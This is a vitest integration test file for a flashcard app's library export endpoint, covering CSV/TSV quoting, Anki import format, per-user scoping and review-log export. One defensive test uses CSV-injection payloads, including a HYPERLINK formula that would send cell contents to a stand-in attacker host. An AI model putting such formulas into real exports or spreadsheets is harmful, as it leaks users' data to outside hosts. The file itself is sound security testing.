import { randomUUID } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import type { operations } from '../../../clients/rest/schema.d.ts';
import { CARD_COLUMNS } from '../../../src/features/library/export-format.ts';
import { useStack, type Started } from '../../support/fixture.ts';
import type { Stack } from '../../support/stack.ts';
import { newUser, type TestUser } from '../../support/users.ts';
import { capture, waitForStatus } from './helpers.ts';
import { api, bodyOf, expectProblem, rawHttp } from '../../support/api.ts';

let stack: Stack;
let user: TestUser;
useStack((started: Started) => ({ stack, user } = started));

/** An RFC 4180 reader (quoted fields, doubled quotes, CRLF records), as a spreadsheet reads the file. */
function parseDelimited(text: string, separator: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"' && field === '') quoted = true;
    else if (ch === separator) {
      row.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += ch;
  }
  if (field !== '' || row.length) {
    row.push(field);
    rows.push(row);
  }
  return rows;
}

const TRICKY = {
  text: 'say "cheese", please',
  translation: 'dis « ouistiti »\tou pas',
  guidance: 'Line one\nline two, with "quotes"',
  examples: ['😀 Everyone, smile!', 'שלום עולם — RTL', 'tab\there'],
};

async function insertTrickyCard(owner: TestUser, content: typeof TRICKY = TRICKY): Promise<string> {
  const cardId = randomUUID();
  await stack.orm.em
    .fork()
    .execute(`INSERT INTO cards (id, user_id, text, normalised_key, enrichment_status, enrichment) VALUES (?, ?, ?, ?, 'ready', ?::jsonb)`, [
      cardId,
      owner.userId,
      content.text,
      `tricky ${cardId}`,
      JSON.stringify({
        translation: content.translation,
        correctedText: null,
        correctionNote: null,
        usage: { register: 'neutral', guidance: content.guidance, examples: content.examples },
        focuses: [{ kind: 'meaning', note: 'a "smile"' }],
      }),
    ]);
  return cardId;
}

type Format = NonNullable<operations['library.export']['parameters']['query']>['format'];
const download = (owner: TestUser, format: Format) => api(stack, { token: owner.token }).GET('/api/library/export', { params: { query: { format } } });

describe('GET /api/library/export', () => {
  it('csv and tsv: RFC 4180 quoting keeps commas, tabs, quotes, newlines, emoji and right-to-left text intact', async () => {
    const owner = await newUser(stack);
    const cardId = await insertTrickyCard(owner);
    for (const [format, separator, type] of [
      ['csv', ',', 'text/csv'],
      ['tsv', '\t', 'text/tab-separated-values'],
    ] as const) {
      const res = await download(owner, format);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe(`${type}; charset=utf-8`);
      expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="lcs-cards\.[ct]sv"$/);
      const [header, ...rows] = parseDelimited(res.text, separator);
      expect(header).toEqual([...CARD_COLUMNS]);
      expect(rows).toHaveLength(1);
      const record = Object.fromEntries(header!.map((column, i) => [column, rows[0]![i]]));
      expect(record).toMatchObject({
        cardId,
        text: TRICKY.text,
        translation: TRICKY.translation,
        usageGuidance: TRICKY.guidance,
        examples: TRICKY.examples.join('\n'),
        focuses: 'meaning: a "smile"',
        correctedText: '',
      });
    }
  });

  it('csv and tsv: a cell a spreadsheet would evaluate starts with an apostrophe (OWASP CSV injection); the Anki file keeps it as HTML text', async () => {
    const owner = await newUser(stack);
    const hostile = {
      text: '=HYPERLINK("http://attacker.example/?leak="&A2,"open")',
      translation: '+SUM(1,1)',
      guidance: '@SUM(1+1)',
      examples: ['-2+3', '＝1+1', '\t=1+1'],
    };
    const cardId = await insertTrickyCard(owner, hostile);
    for (const [format, separator] of [
      ['csv', ','],
      ['tsv', '\t'],
    ] as const) {
      const [header, ...rows] = parseDelimited((await download(owner, format)).text, separator);
      const record = Object.fromEntries(header!.map((column, i) => [column, rows[0]![i]]));
      expect(record).toMatchObject({
        cardId,
        text: `'${hostile.text}`,
        translation: "'+SUM(1,1)",
        usageGuidance: "'@SUM(1+1)",
        examples: `'${hostile.examples.join('\n')}`,
      });
      for (const cell of rows[0]!) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
    }
    const anki = (await download(owner, 'anki')).text;
    expect(anki).toContain(`${cardId}\t+SUM(1,1)\t<b>=HYPERLINK(&quot;http://attacker.example/?leak=&quot;&amp;A2,&quot;open&quot;)</b><br>@SUM(1+1)`);
  });

  it("is scoped to the caller: another user's cards never appear", async () => {
    const owner = await newUser(stack);
    const mine = await insertTrickyCard(owner);
    const other = await newUser(stack);
    const theirs = await insertTrickyCard(other);
    const text = (await download(owner, 'csv')).text;
    expect(text).toContain(mine);
    expect(text).not.toContain(theirs);
    expect((await download(await newUser(stack), 'csv')).text).toBe(`${CARD_COLUMNS.join(',')}\r\n`);
  });

  it('anki: a file Anki imports by its header rules, one note per prepared card with its id as GUID', async () => {
    const owner = await newUser(stack);
    const tricky = await insertTrickyCard(owner);
    const ready = await capture(stack, owner, 'under the weather');
    await waitForStatus(stack, owner, ready.cardId, 'ready');
    await capture(stack, owner, 'hold on'); // may still be pending: then it has no front yet
    const res = await download(owner, 'anki');
    expect(res.headers.get('content-type')).toBe('text/plain; charset=utf-8');

    // Anki's reader: leading `#key:value` lines are headers, the rest rows split by the separator.
    const lines = res.text.split('\n').filter(Boolean);
    const headers = Object.fromEntries(lines.filter((l) => l.startsWith('#')).map((l) => [l.slice(1, l.indexOf(':')), l.slice(l.indexOf(':') + 1)]));
    expect(headers).toMatchObject({ separator: 'tab', html: 'true', notetype: 'Basic', deck: 'Language Capture' });
    const columns = headers.columns!.split('\t');
    const guidAt = Number(headers['guid column']) - 1;
    expect(columns[guidAt]).toBe('guid');
    const notes = lines.filter((l) => !l.startsWith('#')).map((l) => l.split('\t'));
    for (const fields of notes) {
      expect(fields).toHaveLength(columns.length);
      expect(fields.every((f) => !f.startsWith('"'))).toBe(true); // no field Anki would read as quoted
    }
    const byGuid = new Map(notes.map((n) => [n[guidAt], Object.fromEntries(columns.map((c, i) => [c, n[i]]))]));
    expect(byGuid.get(tricky)).toEqual({
      guid: tricky,
      Front: 'dis « ouistiti » ou pas',
      Back: '<b>say &quot;cheese&quot;, please</b><br>Line one<br>line two, with &quot;quotes&quot;<br><ul><li>😀 Everyone, smile!</li><li>שלום עולם — RTL</li><li>tab here</li></ul>',
    });
    expect(byGuid.get(ready.cardId)).toMatchObject({ Back: expect.stringContaining('under the weather') });
    // A second export gives the same GUIDs: Anki updates those notes instead of adding copies.
    expect((await download(owner, 'anki')).text).toContain(`${tricky}\t`);
  });

  it('reviews: the Replay log in the FSRS optimizer columns', async () => {
    const owner = await newUser(stack);
    const card = await capture(stack, owner, 'once in a blue moon');
    await waitForStatus(stack, owner, card.cardId, 'ready');
    const session = bodyOf(await api(stack, { token: owner.token }).GET('/api/replay', { params: { query: { count: '10' } } }), 200);
    const item = session.items[0]!;
    const before = Date.now();
    const done = await api(stack, { token: owner.token }).POST('/api/replay', {
      body: { itemId: item.itemId, usedHint: true, autoFilled: false, unaidedErrors: 0 },
    });
    expect(done.status, done.text).toBe(200);
    const res = await download(owner, 'reviews');
    expect(res.headers.get('content-disposition')).toContain('lcs-reviews.csv');
    const [header, ...rows] = parseDelimited(res.text, ',');
    expect(header).toEqual(['card_id', 'review_time', 'review_rating', 'review_state', 'review_duration']);
    expect(rows).toEqual([[card.cardId, expect.any(String), '2', '0', '0']]); // usedHint → hard (2), a new card (0)
    expect(Math.abs(Number(rows[0]![1]) - before)).toBeLessThan(60_000);
  });

  it('answers a problem for an unknown format and without a token', async () => {
    // Raw: a typed client cannot ask for a format the document does not list.
    expectProblem(await rawHttp(stack, 'GET', '/api/library/export?format=apkg', { token: user.token }), 400, 'invalid_request');
    expectProblem(await api(stack).GET('/api/library/export'), 401, 'unauthenticated');
  });
});
